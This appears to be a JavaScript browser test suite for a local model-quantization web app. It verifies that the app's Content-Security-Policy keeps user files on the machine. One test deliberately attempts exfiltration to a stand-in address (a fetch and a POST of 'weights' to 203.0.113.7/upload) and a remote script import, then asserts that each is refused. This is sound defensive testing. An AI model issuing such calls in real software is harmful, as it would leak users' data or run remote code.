// Files never leave the machine, checked rather than promised: every request the page
// and its workers make while a user opens the demo, uploads files, runs every panel and
// downloads quantized models is recorded, and none goes anywhere but the page's own
// origin on 127.0.0.1; the built page carries a Content-Security-Policy that forbids
// anything else (connect-src 'self', no remote script), `vite preview` (what `npm start`
// serves) sends it as a header, and the browser enforces it in the page and in the
// worker that reads the files.

import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { readFileSync } from "node:fs";
import { createServer } from "node:net";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { CSP, CSP_DIRECTIVES } from "../../www/csp.mjs";
import { DIST, launch, ROOT, serveDist, waitForAnalysis, waitForModel } from "./harness.mjs";

const FORMATS2 = join(ROOT, "tests", "fixtures", "formats2");

let server;
let browser;
before(async () => {
  server = await serveDist();
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await server?.close();
});

/** A port nobody listens on now. */
async function freePort() {
  const s = createServer();
  await new Promise((ok) => s.listen(0, "127.0.0.1", ok));
  const { port } = s.address();
  await new Promise((ok) => s.close(ok));
  return port;
}

test("the built page and `vite preview` carry a policy that forbids remote requests", async () => {
  const html = readFileSync(join(DIST, "index.html"), "utf8");
  const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]*)"/);
  assert.ok(meta, "dist/index.html has a Content-Security-Policy <meta>");
  assert.equal(meta[1].replaceAll("&#39;", "'").replaceAll("&quot;", '"'), CSP);
  // What the policy says, directive by directive: nothing remote may be fetched or run.
  assert.deepEqual(CSP_DIRECTIVES["connect-src"], ["'self'"]);
  assert.deepEqual(CSP_DIRECTIVES["default-src"], ["'none'"]);
  for (const [name, sources] of Object.entries(CSP_DIRECTIVES))
    for (const s of sources)
      assert.ok(!/^(https?:|\*|wss?:)/.test(s) && s !== "'unsafe-eval'", `${name} allows ${s}`);

  // The server `npm start` runs: the header covers the worker's script too.
  const port = await freePort();
  const vite = spawn(
    join(ROOT, "node_modules", ".bin", "vite"),
    ["preview", "--host", "127.0.0.1", "--port", String(port), "--strictPort"],
    { cwd: ROOT, stdio: "ignore" },
  );
  try {
    const base = `http://127.0.0.1:${port}/`;
    let res;
    for (let i = 0; i < 100 && !res; i++) {
      res = await fetch(base).catch(() => undefined);
      if (!res) await new Promise((ok) => setTimeout(ok, 100));
    }
    assert.ok(res, "vite preview answered");
    assert.equal(res.headers.get("content-security-policy"), CSP);
    const worker = html.match(/assets\/[^"']*\.js/)?.[0];
    assert.ok(worker, "a script asset in dist/index.html");
    const asset = await fetch(base + worker);
    assert.equal(asset.status, 200);
    assert.equal(asset.headers.get("content-security-policy"), CSP);
  } finally {
    vite.kill();
  }
});

test("the browser refuses a remote request from the page and from the worker", async () => {
  const { page } = browser;
  await page.goto(server.url);
  await waitForModel(page, "demo.safetensors");
  // The page's own attempt, and a remote script.
  const fromPage = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
    const fetched = await fetch("http://203.0.113.7/upload").then(
      () => "sent",
      () => "refused",
    );
    const imported = await import("http://203.0.113.7/x.js").then(
      () => "ran",
      () => "refused",
    );
    await new Promise((ok) => setTimeout(ok, 50));
    return { fetched, imported, violations };
  });
  assert.equal(fromPage.fetched, "refused");
  assert.equal(fromPage.imported, "refused");
  assert.ok(fromPage.violations.includes("connect-src"), `page violations: ${fromPage.violations}`);
  assert.ok(fromPage.violations.includes("script-src-elem") || fromPage.violations.includes("script-src"));

  // The worker, where the wasm core reads the user's files.
  const worker = page.workers()[0];
  assert.ok(worker, "the page runs a worker");
  const fromWorker = await worker.evaluate(async () => {
    const violations = [];
    self.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
    const fetched = await fetch("http://203.0.113.7/upload", { method: "POST", body: "weights" }).then(
      () => "sent",
      () => "refused",
    );
    await new Promise((ok) => setTimeout(ok, 50));
    return { fetched, violations };
  });
  assert.equal(fromWorker.fetched, "refused");
  assert.ok(fromWorker.violations.includes("connect-src"), `worker violations: ${fromWorker.violations}`);
  // The refusals above are logged as console errors, on purpose: not a problem of the page.
  page.problems.length = 0;
});

test("opening, uploading, every panel and downloads make no request beyond 127.0.0.1", async () => {
  const { context, page } = browser;
  const requests = [];
  const record = (r) => requests.push({ url: r.url() });
  context.on("request", record);
  const origin = new URL(server.url).origin;
  try {
    await page.goto(`${server.url}?schemes=int8-sym-ch0,q4_0`);
    await waitForModel(page, "demo.safetensors");
    // The whole-model table, the file details, another tensor, the layer panel.
    await page.waitForSelector('#summary[data-state="done"]', { timeout: 60_000 });
    await page.click("#model-details summary");
    const rows = await page.$$("#tensor-list tbody tr");
    await rows[rows.length - 1].click();
    await waitForAnalysis(page);
    await page.click("#layer-run");
    await page.waitForFunction(() => {
      const el = document.getElementById("layer");
      return Number(el?.dataset.runs ?? 0) > 0 && el?.dataset.state === "done";
    });
    // A download.
    await page.selectOption("#export-format", "gguf");
    await page.selectOption("#export-scheme", "q4_0");
    const [dl] = await Promise.all([page.waitForEvent("download"), page.click("#export-run")]);
    assert.ok(await dl.path());
    // An upload of the user's own files (ONNX with external data), and its export.
    await page.setInputFiles("#file-input", [
      join(FORMATS2, "onnx/external.onnx"),
      join(FORMATS2, "onnx/external.onnx.data"),
    ]);
    await page.waitForFunction(() => document.getElementById("model-name")?.dataset.format === "onnx");
    await waitForAnalysis(page);
    await page.waitForSelector('#summary[data-state="done"]', { timeout: 60_000 });
    await page.selectOption("#export-format", "onnx");
    await page.selectOption("#export-scheme", "int8-sym-ch0");
    const [dl2] = await Promise.all([page.waitForEvent("download"), page.click("#export-run")]);
    assert.ok(await dl2.path());
    // The automatic mix on that model (weights objective: it has no runnable graph), and
    // its export.
    await page.selectOption("#auto-objective", "weights");
    await page.fill("#auto-candidates", "int8-sym-ch,int4-sym-ch,float");
    await page.click("#auto-run");
    await page.waitForFunction(
      () => ["done", "error"].includes(document.getElementById("auto")?.dataset.state),
      null,
      {
        timeout: 60_000,
      },
    );
    await page.fill("#auto-bytes", "100000000");
    await page.click("#auto-export");
    await page.waitForSelector("#auto-file:not([hidden])");
  } finally {
    context.off("request", record);
  }
  const away = requests.filter((r) => {
    const u = new URL(r.url);
    return !(u.origin === origin || u.protocol === "blob:" || u.protocol === "data:");
  });
  assert.deepEqual(away, [], "requests that left the page's origin");
  // The recorder sees the workers' requests too: the wasm module and the demo model are
  // fetched by a worker, never by the page.
  const seen = (suffix) => requests.some((r) => new URL(r.url).pathname.endsWith(suffix));
  assert.ok(seen(".wasm"), `the wasm module among ${requests.map((r) => r.url).join(", ")}`);
  assert.ok(seen("demo.safetensors"), "the demo model");
  assert.deepEqual(page.problems, [], "the page logged errors");
});
